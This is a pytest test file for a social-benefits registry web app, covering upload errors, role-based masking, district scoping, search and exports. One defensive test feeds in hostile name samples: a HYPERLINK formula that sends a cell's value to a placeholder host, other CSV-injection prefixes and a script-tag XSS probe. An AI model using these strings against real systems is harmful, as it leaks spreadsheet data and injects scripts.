"""Pages of imports and families, as people of each role meet them."""

import io
import re
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import TestResponse, encode_multipart

from accounts.values import Role, ScopeKind
from core.crypto import FieldKeys
from core.tabular import open_table
from distribution.models import Child, Family, RegistryBatch
from distribution.services.registry import stage_batch
from distribution.services.registry_confirming import confirm_batch
from tests.conftest import SignIn
from tests.support.client import InspectingClient, hidden_fields
from tests.support.jobs import do_the_jobs
from tests.support.people import an_actor
from tests.support.registry_files import KATO, OTHER_KATO, a_row, registry_bytes

IMPORT = "/distribution/registry/import"
AT = datetime(2026, 9, 20, 5, 0, tzinfo=UTC)
SENTENCES = {
    "none": {"en": "Choose a file first.", "ru": "Сначала выберите файл.", "kk": "Алдымен файлды таңдаңыз."},
    "type": {"en": "This file is not a table", "ru": "Этот файл не таблица", "kk": "бұл файл кесте емес"},
    "empty": {"en": "The file is empty.", "ru": "Файл пуст.", "kk": "Файл бос."},
    "locked": {"en": "protected by a password", "ru": "защищён паролем", "kk": "құпиясөзбен қорғалған"},
    "template": {"en": "This table is not a registry", "ru": "Эта таблица не реестр", "kk": "Бұл кесте тізілім емес"},
    "two": {"en": "one file at a time", "ru": "по одному файлу", "kk": "бір-бірлеп таңдаңыз"},
}
TOO_BIG = {"en": "bigger than 400 MB", "ru": "больше 400 МБ", "kk": "400 МБ-тан үлкен"}
BROKEN_OFF = {
    "en": "The file could not be uploaded",
    "ru": "Не удалось загрузить файл",
    "kk": "Файлды жүктеу мүмкін болмады",
}
LOCKED = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")
CONTENTS: dict[str, list[tuple[bytes, str]]] = {
    "none": [(b"", "")],
    "type": [(b"%PDF-1.7 something", "registry.csv")],
    "empty": [(b"", "registry.csv")],
    "locked": [(LOCKED, "registry.xlsx")],
    "template": [(b"a;b\n1;2\n", "registry.csv")],
    "two": [(b"a", "one.csv"), (b"b", "two.csv")],
}


def send_file(client: InspectingClient, *files: tuple[bytes, str]) -> TestResponse:
    hidden = hidden_fields(client.get(IMPORT).get_data(as_text=True))
    sent = [FileStorage(io.BytesIO(content), name) for content, name in files]
    return send(client, IMPORT, {**hidden, "file": sent})


def upload(client: InspectingClient, *files: tuple[bytes, str]) -> TestResponse:
    """Send a file and let its rows be checked; the answer leads to its import."""
    answer = send_file(client, *files)
    if answer.status_code == 303:
        answer.headers["Location"] = result_of(client, answer)
    return answer


def result_of(client: InspectingClient, answer: TestResponse) -> str:
    """Do the long work that an answer leads to, and return where its page leads."""
    assert "/jobs/" in answer.location
    do_the_jobs(client.application)
    page = client.get(answer.location).get_data(as_text=True)
    found = re.search(r'data-result="([^"]+)"', page)
    assert found, page
    return found[1]


def send(client: InspectingClient, path: str, fields: dict[str, object]) -> TestResponse:
    """Send a form as a browser does, encoded in memory: the client's own way leaves temporary files open."""
    boundary, body = encode_multipart(MultiDict(fields))
    return client.post(path, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def loaded(session: Session, keys: FieldKeys, folder: Path, rows: list[dict[str, str] | None]) -> RegistryBatch:
    clerk, chief = (an_actor(session, role=Role.MINISTRY) for _ in range(2))
    path = folder / "loaded.csv"
    path.write_bytes(registry_bytes(rows))
    with open_table(path) as table:
        batch = stage_batch(session, table=table, file_name="l.csv", actor=clerk, keys=keys, at=AT)
    confirm_batch(session, batch_id=batch.id, actor=chief, at=AT)
    session.commit()
    return batch


@pytest.mark.parametrize("language", ["kk", "ru", "en"])
@pytest.mark.parametrize("case", SENTENCES)
def test_ux_55_each_wrong_file_has_its_own_sentence(sign_in: SignIn, case: str, language: str) -> None:
    client = sign_in(Role.MINISTRY, language=language)
    answer = upload(client, *CONTENTS[case])
    assert answer.status_code == 422
    assert SENTENCES[case][language] in answer.get_data(as_text=True)


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the parser leaves its file open
@pytest.mark.parametrize("language", ["kk", "ru", "en"])
def test_ux_55_sec_34_too_big_and_broken_off_have_sentences_of_their_own(sign_in: SignIn, language: str) -> None:
    client = sign_in(Role.MINISTRY, language=language)
    size = {"CONTENT_LENGTH": str(500 * 1024 * 1024)}
    answer = client.post(IMPORT, content_type="multipart/form-data", environ_overrides=size)
    assert answer.status_code == 422
    assert TOO_BIG[language] in answer.get_data(as_text=True)
    boundary, body = encode_multipart(MultiDict({"file": FileStorage(io.BytesIO(b"x" * 2000), "r.csv")}))
    for sent in (body[:1000], body[:20], b""):
        broken = client.post(IMPORT, data=sent, content_type=f"multipart/form-data; boundary={boundary}")
        assert broken.status_code == 422
        assert BROKEN_OFF[language] in broken.get_data(as_text=True)


def test_sec_34_only_the_import_takes_big_bodies_and_only_from_those_who_may(sign_in: SignIn) -> None:
    content = b"x" * (13 * 1024 * 1024)
    ministry = sign_in(Role.MINISTRY)
    assert upload(ministry, (content, "r.csv")).status_code == 422
    auditor = sign_in(Role.AUDITOR)
    assert send(auditor, IMPORT, {"file": FileStorage(io.BytesIO(content), "r.csv")}).status_code == 413
    assert (
        send(ministry, "/distribution/registry/1/confirm", {"x": FileStorage(io.BytesIO(content), "x")}).status_code
        == 413
    )


def test_ux_56_a_file_is_staged_looked_at_and_confirmed_by_another_person(sign_in: SignIn, session: Session) -> None:
    clerk, chief = sign_in(Role.MINISTRY), sign_in(Role.MINISTRY)
    rows: list[dict[str, str] | None] = [a_row(1), a_row(2, award_status="ok"), a_row(3, birth_date="")]
    answer = upload(clerk, (registry_bytes(rows), "тізілім.csv"))
    assert answer.status_code == 303
    page = clerk.get(answer.location).get_data(as_text=True)
    assert "тізілім.csv" in page
    assert "Award status unknown" in page
    assert "Confirm the import" not in page
    assert session.scalar(select(func.count()).select_from(Family)) == 0
    seen = chief.get(answer.location).get_data(as_text=True)
    assert "Confirm the import" in seen
    confirmed = chief.send_button(f"{answer.location}/confirm", page=answer.location)
    assert confirmed.status_code == 303
    assert result_of(chief, confirmed) == answer.location
    assert session.scalar(select(func.count()).select_from(Child)) == 2
    again = chief.send_button(f"{answer.location}/confirm", page=IMPORT)
    assert again.status_code == 409
    assert "already confirmed" in again.get_data(as_text=True)


def test_ux_58_the_same_file_again_says_when_and_by_whom(sign_in: SignIn) -> None:
    client = sign_in(Role.MINISTRY)
    assert upload(client, (registry_bytes([a_row(1)]), "a.csv")).status_code == 303
    again = upload(client, (registry_bytes([a_row(1)]), "b.csv"))
    assert again.status_code == 422
    assert "already loaded" in again.get_data(as_text=True)


def test_remarks_are_filtered_by_reason_and_taken_home_whole(sign_in: SignIn) -> None:
    client = sign_in(Role.MINISTRY)
    rows: list[dict[str, str] | None] = [a_row(n, award_status="ok") for n in range(1, 61)]
    location = upload(client, (registry_bytes([*rows, a_row(70, district_kato="1")]), "a.csv")).location
    first = client.get(location).get_data(as_text=True)
    assert first.count('<th scope="row" class="number">') == 50
    only = client.get(f"{location}?reason=district_unknown").get_data(as_text=True)
    assert only.count('<th scope="row" class="number">') == 1
    report = client.get(f"{location}?format=csv")
    assert "attachment" in report.headers["Content-Disposition"]
    assert len(report.get_data(as_text=True).splitlines()) == 62
    sheet = load_workbook(io.BytesIO(client.get(f"{location}?format=xlsx").data)).worksheets[0]
    assert (sheet.max_row, sheet["A62"].value) == (62, 62)
    assert client.get(f"{location}?format=exe").status_code == 400


@pytest.mark.parametrize("language", ["kk", "ru", "en"])
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_ux_52_the_template_is_taken_home_and_brought_in_unchanged(sign_in: SignIn, language: str, kind: str) -> None:
    client = sign_in(Role.MINISTRY)
    template = client.get(f"/distribution/registry/template?language={language}&format={kind}")
    assert re.search(rf'filename="?registry-template_{language}_.*\.{kind}', template.headers["Content-Disposition"])
    answer = upload(client, (template.data, f"t.{kind}"))
    assert answer.status_code == 303
    assert "Every row was taken as it stands." in client.get(answer.location).get_data(as_text=True)


def test_sec_01_a_batch_of_another_district_is_not_there(sign_in: SignIn) -> None:
    own = sign_in(Role.DISTRICT, ScopeKind.DISTRICT, int(KATO))
    other = sign_in(Role.DISTRICT, ScopeKind.DISTRICT, int(OTHER_KATO))
    location = upload(own, (registry_bytes([a_row(1)]), "mine.csv")).location
    assert own.get(location).status_code == 200
    assert other.get(location).status_code == 404
    assert "mine.csv" not in other.get("/distribution/registry").get_data(as_text=True)
    assert other.send_button(f"{location}/discard", page=IMPORT).status_code == 404


def test_families_are_found_by_folded_names_children_iin_and_case(
    sign_in: SignIn, session: Session, keys: FieldKeys, tmp_path: Path
) -> None:
    row = a_row(1, applicant_name="Әбдіқадырова Ұлжан", child_name="Қайрат Өмірзақ", settlement="Көкпекті")
    loaded(session, keys, tmp_path, [row, a_row(2)])
    client = sign_in(Role.MINISTRY)
    for asked in (
        "абдикадырова",
        "УЛЖАН",
        "омирзак",
        "кокпекти",
        row["child_iin"],
        f" {row['applicant_iin'][:6]} {row['applicant_iin'][6:]}",
        row["case_no"],
    ):
        page = client.get("/distribution/families", query_string={"q": asked}).get_data(as_text=True)
        assert "Әбдіқадырова" in page, asked
        assert "Серікова" not in page, asked
    assert "No family fits" in client.get("/distribution/families?q=%25").get_data(as_text=True)


def test_names_are_whole_for_those_who_bring_them_in_and_masked_for_others(
    sign_in: SignIn, session: Session, keys: FieldKeys, tmp_path: Path
) -> None:
    loaded(session, keys, tmp_path, [a_row(1)])
    family_id = session.scalar(select(Family.id))
    for role, whole in ((Role.MINISTRY, True), (Role.AUDITOR, False)):
        client = sign_in(role)
        shown = f"/distribution/families/{family_id}"
        for path in ("/distribution/families", shown):
            page = client.get(path).get_data(as_text=True)
            assert ("Серікова" in page) == whole
            assert a_row(1)["applicant_iin"] not in page
            assert a_row(1)["child_iin"] not in page
        assert ("Серікова" in client.get("/distribution/families?format=csv").get_data(as_text=True)) == whole
        assert "+77010000001" not in client.get(shown).get_data(as_text=True)


def test_sec_01_families_of_another_district_are_not_there(
    sign_in: SignIn, session: Session, keys: FieldKeys, tmp_path: Path
) -> None:
    loaded(session, keys, tmp_path, [a_row(1)])
    family_id = session.scalar(select(Family.id))
    other = sign_in(Role.DISTRICT, ScopeKind.DISTRICT, int(OTHER_KATO))
    assert other.get(f"/distribution/families/{family_id}").status_code == 404
    page = other.get("/distribution/families", query_string={"q": a_row(1)["child_iin"]}).get_data(as_text=True)
    assert "Серікова" not in page
    assert "Серікова" not in other.get("/distribution/families?format=csv").get_data(as_text=True)


def test_missing_children_and_states_of_awards_are_filters_with_counts(
    sign_in: SignIn, session: Session, keys: FieldKeys, tmp_path: Path
) -> None:
    gone = a_row(2, applicant_name="Жоғалған", award_status="suspended")
    loaded(session, keys, tmp_path, [a_row(1), gone])
    batch = loaded(session, keys, tmp_path, [a_row(1)])
    client = sign_in(Role.MINISTRY)
    for filtered in ("missing=yes", "status=suspended", f"missing=yes&district={KATO}"):
        page = client.get(f"/distribution/families?{filtered}").get_data(as_text=True)
        assert "Жоғалған" in page, filtered
        assert "Серікова" not in page, filtered
    assert "No family fits" in client.get("/distribution/families?status=refused").get_data(as_text=True)
    family_id = session.scalar(select(Family.id).where(Family.guardian_name == "Жоғалған"))
    shown = client.get(f"/distribution/families/{family_id}").get_data(as_text=True)
    assert f"Missing from import {batch.id}" in shown


def test_bad_08_bad_43_hostile_names_are_shown_and_taken_home_harmless(
    sign_in: SignIn, session: Session, keys: FieldKeys, tmp_path: Path
) -> None:
    hostile = [
        '=HYPERLINK("http://x?"&A1)',
        "+7-1",
        "@SUM(1)",
        "＝1+1",
        "<script>alert(1)</script>",
        "А\u202eб\u200bв\0г",
    ]
    rows: list[dict[str, str] | None] = [
        a_row(n, applicant_name=name, child_name=name) for n, name in enumerate(hostile, start=1)
    ]
    loaded(session, keys, tmp_path, rows)
    names = set(session.scalars(select(Child.name)))
    assert names == {*hostile[:5], "Абв г"}
    client = sign_in(Role.MINISTRY)
    assert "<script>alert" not in client.get("/distribution/families").get_data(as_text=True)
    exported = client.get("/distribution/families?format=csv").get_data(as_text=True)
    assert not re.search(r'[,;]"?[=+@＝]', exported)
    sheet = load_workbook(io.BytesIO(client.get("/distribution/families?format=xlsx").data)).worksheets[0]
    assert {cell.data_type for cell in sheet["B"]} == {"s"}


def test_a_child_born_on_29_february_is_shown_so(
    sign_in: SignIn, session: Session, keys: FieldKeys, tmp_path: Path
) -> None:
    row = a_row(1, child_iin="200229699441", birth_date="29.02.2020")
    loaded(session, keys, tmp_path, [row])
    assert session.scalar(select(Child.birth_on)) == date(2020, 2, 29)
    family_id = session.scalar(select(Family.id))
    page = sign_in(Role.MINISTRY).get(f"/distribution/families/{family_id}").get_data(as_text=True)
    assert "2020-02-29" in page
    assert "••••••••9441" in page
